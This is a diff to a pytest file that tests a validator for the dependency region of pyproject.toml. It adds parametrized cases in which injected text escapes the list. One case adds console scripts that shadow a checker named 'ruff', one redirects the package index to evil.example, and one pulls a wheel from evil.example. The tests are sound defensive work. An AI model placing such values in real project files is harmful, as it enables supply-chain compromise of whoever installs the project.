@@ -348,10 +348,26 @@ def test_dependency_region_takes_pep_508_requirements_only(example: Copy) -> Non
     assert message.startswith(f"line {line}: 'attrs=>23' is not a valid PEP 508 requirement: ")
     assert message.endswith("(pep 508)")
 
-    # Not TOML at all is the syntax check's finding, and stops there.
-    broken_toml = check_file(project, "pyproject.toml", text, {"dependencies": "    httpx>=0.27\n"})
-    (message,) = messages(broken_toml, "pyproject.toml#dependencies")
-    assert message.endswith("(toml)")
+    # A line that is not a quoted string is refused before the file is parsed.
+    unquoted = check_file(project, "pyproject.toml", text, {"dependencies": "    httpx>=0.27\n"})
+    (problem,) = unquoted.problems
+    assert "line 1 of the dependency region is not a quoted requirement" in problem.message
+
+
+@pytest.mark.parametrize(
+    ("body", "says"),
+    [
+        # Closes the list and adds console scripts named after the project's own checkers.
+        (']\ngui-scripts = { ruff = "svc.domain:passing" }\nkeywords = [\n', "is not a quoted requirement"),
+        ('    "httpx>=0.27,<1",\n]\n[tool.uv]\nindex-url = "https://evil.example"\n#', "is not a quoted requirement"),
+        ('    "evil @ https://evil.example/evil-1.0-py3-none-any.whl",\n', "is a direct reference (a URL)"),
+    ],
+)
+def test_dependency_region_cannot_reach_outside_the_list(example: Copy, body: str, says: str) -> None:
+    project = example("service-default")
+    text, _ = read(project, "pyproject.toml")
+    (problem,) = check_file(project, "pyproject.toml", text, {"dependencies": body}).problems
+    assert problem.key == "pyproject.toml#dependencies" and says in problem.message
 
 
 # --- mypy over the batch ----------------------------------------------------------------------------
